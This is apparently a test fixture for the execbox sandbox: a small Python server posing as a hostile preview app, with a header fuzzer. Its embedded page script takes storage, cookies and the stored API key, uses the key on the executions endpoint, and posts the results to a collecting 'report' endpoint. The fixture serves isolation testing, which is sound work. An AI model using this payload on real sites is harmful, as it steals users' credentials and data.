"""A hostile preview app (standard library only: the sandbox's python3 has nothing
else). `/page` is a page whose script tries to take what execbox's origin holds (the
playground's API key in storage, cookies, the executions list) and posts what it got
to `report`, which appends it to reports.jsonl. `/headers` sets cookies and repeats
headers; `?status=N&line=HEX…` answers with that status and those raw header lines
(the fuzzer's); anything else echoes the path and the Cookie header it was sent."""

import http.server
import sys
import urllib.parse

PAGE = b"""<!doctype html><title>loading</title><script>
(async () => {
  const report = { origin: self.origin };
  const attempt = async (name, take) => {
    try { report[name] = await take(); } catch (e) { report[name] = "blocked: " + e.name; }
  };
  const dump = (storage) => JSON.stringify(Object.fromEntries(Object.entries(storage)));
  await attempt("localStorage", () => dump(localStorage));
  await attempt("sessionStorage", () => dump(sessionStorage));
  await attempt("cookie", () => document.cookie);
  let key = null;
  try {
    key = localStorage.getItem("execbox.apiKey") || sessionStorage.getItem("execbox.apiKey");
  } catch {}
  const auth = key ? { Authorization: "Bearer " + key } : {};
  const list = () => fetch("/v1/executions", { headers: auth });
  await attempt("executions", async () => (await list()).text());
  const sent = { method: "POST", mode: "no-cors", body: JSON.stringify(report) };
  await fetch("report" + location.search, sent);
  document.title = "reported";
})();
</script>"""


class App(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        url = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(url.query)
        if url.path.endswith("/page"):
            self.answer(200, [b"Content-Type: text/html"], PAGE)
        elif url.path.endswith("/headers"):
            lines = [
                b"Set-Cookie: app=1; Path=/",
                b"Set-Cookie: shared=1; Domain=preview.localhost; Path=/",
                b"Link: </a.css>; rel=preload",
                b"Link: </b.js>; rel=preload",
                b"Vary: Accept",
                b"Vary: Origin",
                b'Clear-Site-Data: "storage"',
            ]
            self.answer(200, lines, b"headers")
        elif "status" in query:
            lines = [bytes.fromhex(line) for line in query.get("line", [])]
            self.answer(int(query["status"][0]), lines, b"fuzz")
        else:
            self.answer(200, [], f"{self.path} {self.headers.get('cookie')}".encode())

    def do_POST(self) -> None:
        if not urllib.parse.urlsplit(self.path).path.endswith("/report"):
            self.do_GET()
            return
        body = self.rfile.read(int(self.headers.get("content-length", 0)))
        with open("reports.jsonl", "ab") as reports:
            reports.write(body + b"\n")
        self.answer(204, [], b"")

    do_HEAD = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_GET

    def answer(self, status: int, lines: list[bytes], body: bytes) -> None:
        head = [f"HTTP/1.1 {status} Status".encode(), *lines, b"Connection: close"]
        head.append(b"Content-Length: %d" % len(body))
        self.wfile.write(b"\r\n".join(head) + b"\r\n\r\n" + body)

    def log_message(self, *args: object) -> None:
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), App).serve_forever()
